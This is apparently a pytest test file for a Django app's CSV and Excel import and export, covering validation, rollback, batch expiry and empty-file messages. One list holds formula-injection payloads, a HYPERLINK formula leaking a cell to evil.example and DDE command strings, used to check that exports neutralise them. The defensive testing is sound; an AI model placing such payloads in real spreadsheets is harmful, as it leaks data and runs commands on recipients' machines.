"""The shared import mechanism, exercised on a small real table (sites of a programme)."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterable
from datetime import timedelta
from typing import Any

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.management import call_command
from django.utils import timezone

from conftest import World
from tandem.core.importing import (
    BatchUnavailable,
    Column,
    ImportFileError,
    ImportRejected,
    ImportSpec,
    apply_import,
    build_preview,
    import_batch_apply,
    import_batch_store,
    parse_int,
    read_table,
    to_csv,
    to_xlsx,
)
from tandem.core.models import ImportBatch, Programme, Site


class SiteSpec(ImportSpec):
    key = "name"

    def __init__(self, programme: Programme) -> None:
        self.programme = programme
        self.columns = [Column("name", required=True), Column("city", required=True),
                        Column("population", parse=parse_int)]

    def find_existing(self, values: dict[str, Any]) -> Site | None:
        return self.programme.sites.filter(name=values["name"]).first()

    def validate(self, values: dict[str, Any], existing: Any) -> list[str]:
        return ["population cannot be negative"] if (values.get("population") or 0) < 0 else []

    def apply(self, values: dict[str, Any], existing: Site | None, actor: Any) -> None:
        site = existing or Site(programme=self.programme, name=values["name"])
        site.city = values["city"]
        site.full_clean()
        site.save()

    def export_rows(self) -> Iterable[dict[str, Any]]:
        return [{"name": s.name, "city": s.city} for s in self.programme.sites.all()]


def _preview(world: World, text: str, filename: str = "sites.csv") -> Any:
    return build_preview(spec=SiteSpec(world.programme), rows=read_table(text.encode(), filename))


def test_one_bad_row_means_nothing_is_written(world: World) -> None:
    preview = _preview(world, "name,city,population\nCharlois,Rotterdam,1000\nIJsselmonde,,5\nHillesluis,Rotterdam,-3\n")
    assert [r.action for r in preview.rows] == ["new", "error", "error"]
    assert preview.rows[1].line == 3 and "city is required" in preview.rows[1].errors[0]
    assert preview.rows[2].errors == ["population cannot be negative"]
    with pytest.raises(ValidationError):
        apply_import(spec=SiteSpec(world.programme), preview=preview, actor=None)
    assert not world.programme.sites.filter(name="Charlois").exists()


def test_valid_file_creates_and_updates(world: World) -> None:
    preview = _preview(world, "name;city\nFeijenoord;Rotterdam-Zuid\nCharlois;Rotterdam\n")  # ; delimiter
    assert [r.action for r in preview.rows] == ["update", "new"]
    assert apply_import(spec=SiteSpec(world.programme), preview=preview, actor=None) == {"new": 1, "update": 1}
    assert world.programme.sites.get(name="Feijenoord").city == "Rotterdam-Zuid"


def test_file_level_errors(world: World) -> None:
    preview = _preview(world, "name,cty\nA,B\n")
    assert not preview.is_valid
    assert any("Missing columns: “city”" in e for e in preview.file_errors)
    assert any("Unknown columns: “cty”" in e for e in preview.file_errors)
    duplicate = _preview(world, "name,city\nA,X\na,Y\n")
    assert "appears twice" in duplicate.rows[1].errors[0]
    with pytest.raises(ImportFileError):
        read_table(b"%PDF-1.4", "sites.pdf")
    with pytest.raises(ImportFileError):
        read_table(b"not a zip", "sites.xlsx")


def test_failure_during_apply_rolls_everything_back(world: World) -> None:
    spec = SiteSpec(world.programme)
    preview = build_preview(spec=spec, rows=read_table(b"name,city\nNew1,A\n" + b"X" * 130 + b",B\n", "s.csv"))
    assert preview.is_valid  # the name is too long for the column: only full_clean notices
    with pytest.raises(ValidationError, match="Line 3"):
        apply_import(spec=spec, preview=preview, actor=None)
    assert not world.programme.sites.filter(name="New1").exists()


def test_export_round_trips_through_xlsx_and_csv(world: World) -> None:
    spec = SiteSpec(world.programme)
    data = to_xlsx(spec=spec, rows=spec.export_rows())
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert [c.value for c in sheet[1]] == ["name", "city", "population"]
    assert [c.value for c in sheet[2]][:2] == ["Feijenoord", "Rotterdam"]
    for content, name in ((data, "sites.xlsx"), (to_csv(spec=spec, rows=spec.export_rows()), "sites.csv")):
        preview = build_preview(spec=spec, rows=read_table(content, name))
        assert [r.action for r in preview.rows] == ["update"]


# Cells a spreadsheet would run: a link that leaks data, a command (DDE), a function, arithmetic.
DANGEROUS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\tTab"]
# What the import reads back (it trims spaces and tabs around every value).
READ_BACK = {*(name.strip() for name in DANGEROUS), "Feijenoord"}


def _dangerous_sites(world: World) -> SiteSpec:
    for name in DANGEROUS:
        Site.objects.create(programme=world.programme, name=name, city="=1+1")
    return SiteSpec(world.programme)


def test_csv_export_writes_formulas_as_text(world: World) -> None:
    spec = _dangerous_sites(world)
    content = to_csv(spec=spec, rows=spec.export_rows())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    exported = {row[0]: row[1] for row in rows[1:]}
    for name in DANGEROUS:
        assert "'" + name in exported, name  # OWASP: a leading ' makes the cell text
        assert exported["'" + name] == "'=1+1"
    assert exported["Feijenoord"] == "Rotterdam"  # ordinary text untouched
    # Imported back, the mark comes off: the round trip changes nothing.
    preview = build_preview(spec=spec, rows=read_table(content, "sites.csv"))
    assert {r.values["name"] for r in preview.rows} == READ_BACK
    assert {r.values["city"] for r in preview.rows} == {"=1+1", "Rotterdam"}


def test_xlsx_export_writes_formulas_as_text_cells(world: World) -> None:
    spec = _dangerous_sites(world)
    content = to_xlsx(spec=spec, rows=spec.export_rows())
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    for name in DANGEROUS:
        name_cell, city_cell = cells[name][0], cells[name][1]
        assert name_cell.data_type == "s" and name_cell.quotePrefix, name
        assert city_cell.value == "=1+1" and city_cell.data_type == "s"
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")  # not one formula in the file
    preview = build_preview(spec=spec, rows=read_table(content, "sites.xlsx"))
    assert {r.values["name"] for r in preview.rows} == READ_BACK


# --- Upload batches -----------------------------------------------------------------------------


def _batch(world: World, text: str = "name,city\nCharlois,Rotterdam\n") -> ImportBatch:
    return import_batch_store(programme=world.programme, kind="sites", filename="sites.csv",
                              content=text.encode(), actor=world.users["coordinator"])


def _apply(world: World, batch: ImportBatch, **extra: Any) -> dict[str, int]:
    return import_batch_apply(programme=world.programme, kind="sites", batch_id=batch.pk,
                              spec=SiteSpec(world.programme), actor=world.users["coordinator"], **extra)


def test_a_batch_is_imported_once_and_its_file_deleted(world: World) -> None:
    batch = _batch(world)
    assert _apply(world, batch) == {"new": 1, "update": 0}
    with pytest.raises(BatchUnavailable, match="already been imported"):
        _apply(world, batch)  # the second confirmation finds the batch claimed
    assert world.programme.sites.filter(name="Charlois").count() == 1
    batch.refresh_from_db()
    assert bytes(batch.content) == b"" and batch.summary == {"new": 1, "update": 0}
    # Of another programme or kind, a batch is not found at all.
    with pytest.raises(BatchUnavailable, match="already done or has expired"):
        import_batch_apply(programme=world.other_programme, kind="sites", batch_id=_batch(world).pk,
                           spec=SiteSpec(world.other_programme), actor=None)


def test_a_failed_import_releases_the_batch(world: World) -> None:
    batch = _batch(world, "name,city\nNew1,A\n" + "X" * 130 + ",B\n")
    with pytest.raises(ImportRejected, match="Line 3") as refused:
        _apply(world, batch)
    assert refused.value.preview.is_valid  # shown again to the coordinator
    batch.refresh_from_db()
    assert batch.applied is None and bytes(batch.content)  # not claimed: nothing was imported
    assert not world.programme.sites.filter(name="New1").exists()


def test_unconfirmed_batches_expire_and_their_files_are_deleted(world: World, settings: Any) -> None:
    settings.IMPORT_BATCH_VALID_HOURS = 24
    old, recent, done = _batch(world), _batch(world), _batch(world)
    _apply(world, done)
    ImportBatch.objects.filter(pk__in=[old.pk, done.pk]).update(created=timezone.now() - timedelta(hours=25))
    # Too old to confirm even before the command has run…
    with pytest.raises(BatchUnavailable, match="expired: a file waits 24 hours"):
        _apply(world, old)
    call_command("expire_import_batches", verbosity=0)
    call_command("expire_import_batches", verbosity=0)  # idempotent
    old.refresh_from_db()
    recent.refresh_from_db()
    assert old.expired is not None and bytes(old.content) == b""
    assert recent.expired is None and bytes(recent.content)
    assert ImportBatch.objects.get(pk=done.pk).expired is None  # imported, not expired
    with pytest.raises(BatchUnavailable, match="expired"):
        _apply(world, old)
    assert world.programme.sites.filter(name="Charlois").count() == 1  # only `done` imported it


def _binary(prefix: bytes) -> bytes:
    """Bytes of some other kind of file that still decode as Windows-1252 (none of its five
    undefined bytes), as a screenshot renamed .csv did."""
    undefined = {0x81, 0x8D, 0x8F, 0x90, 0x9D}
    body = bytes(b for b in (range(256)) if b not in undefined) * 8
    return prefix + body


@pytest.mark.parametrize("content", [_binary(b"\x89PNG\r\n\x1a\n"), _binary(b"")])
def test_a_file_that_is_not_a_table_is_refused_as_a_whole(content: bytes) -> None:
    """A PNG renamed .csv was read as Windows-1252 and previewed: "Missing columns", an empty
    table and "correct the rows marked as errors" with none marked."""
    with pytest.raises(ImportFileError, match="cannot be read as a CSV or Excel file"):
        read_table(content, "volunteers.csv")
    with pytest.raises(ImportFileError, match="cannot be read as a CSV or Excel file"):
        read_table(content, "volunteers.xlsx")


def test_a_stray_control_character_in_a_cell_is_still_named_in_the_preview(world: World) -> None:
    rows = read_table(b"name,city\nNorth\x00,Rotterdam\n", "sites.csv")
    preview = build_preview(spec=SiteSpec(world.programme), rows=rows)
    assert preview.rows[0].errors and "control characters" in preview.rows[0].errors[0]


@pytest.mark.parametrize(("content", "filename", "message"), [
    (b"", "sites.csv", "The file is empty"),
    (b"\xef\xbb\xbf", "sites.csv", "The file is empty"),  # Excel's "CSV UTF-8" with nothing typed in
    (b"\n\n\r\n", "sites.csv", "only blank lines"),
    (b"  \n,,\n , ,\n", "sites.csv", "only blank lines"),  # spaces, or empty cells as Excel saves them
    (b"name,city,population\n", "sites.csv", "a header row but no rows to import"),
    (b"name,city,population\n\n,,\n", "sites.csv", "a header row but no rows to import"),
])
def test_a_file_without_rows_gets_one_clear_message(world: World, content: bytes, filename: str,
                                                    message: str) -> None:
    with pytest.raises(ImportFileError) as raised:
        read_table(content, filename)
    assert message in str(raised.value) and "Missing columns" not in str(raised.value)


def test_an_excel_file_without_rows_gets_the_same_messages(world: World) -> None:
    header_only = to_xlsx(spec=SiteSpec(world.programme), rows=[])  # the blank template
    with pytest.raises(ImportFileError, match="a header row but no rows to import"):
        read_table(header_only, "sites.xlsx")
    empty = io.BytesIO()
    openpyxl.Workbook().save(empty)
    with pytest.raises(ImportFileError, match="The file is empty"):
        read_table(empty.getvalue(), "sites.xlsx")


def test_blank_lines_before_the_header_row_are_skipped(world: World) -> None:
    preview = _preview(world, "\n\nname,city\nCharlois,Rotterdam\n")
    assert preview.is_valid and [r.values["name"] for r in preview.rows] == ["Charlois"]


def test_no_rows_reads_the_same_through_the_preview_and_the_confirmation(world: World) -> None:
    preview = build_preview(spec=SiteSpec(world.programme), rows=[])
    assert preview.file_errors == [str(read_error(b"name,city\n"))] and not preview.is_valid
    # A stored batch is read again on confirmation: refused as a whole, with the same message.
    batch = import_batch_store(programme=world.programme, kind="sites", filename="sites.csv",
                               content=b"name,city\n", actor=world.users["coordinator"])
    with pytest.raises(ImportRejected, match="no rows to import"):
        import_batch_apply(programme=world.programme, kind="sites", batch_id=batch.pk,
                           spec=SiteSpec(world.programme), actor=world.users["coordinator"])
    batch.refresh_from_db()
    assert batch.applied is None and not world.programme.sites.exclude(name="Feijenoord").exists()


@pytest.mark.parametrize(("language", "words"), [
    ("nl", "geen rijen om te importeren"), ("fr", "aucune ligne à importer"), ("de", "keine Zeilen zum Importieren"),
])
def test_the_no_rows_message_is_translated(language: str, words: str) -> None:
    from django.utils import translation

    with translation.override(language):
        assert words in str(read_error(b"name,city\n"))


def read_error(content: bytes) -> ImportFileError:
    with pytest.raises(ImportFileError) as raised:
        read_table(content, "sites.csv")
    return raised.value
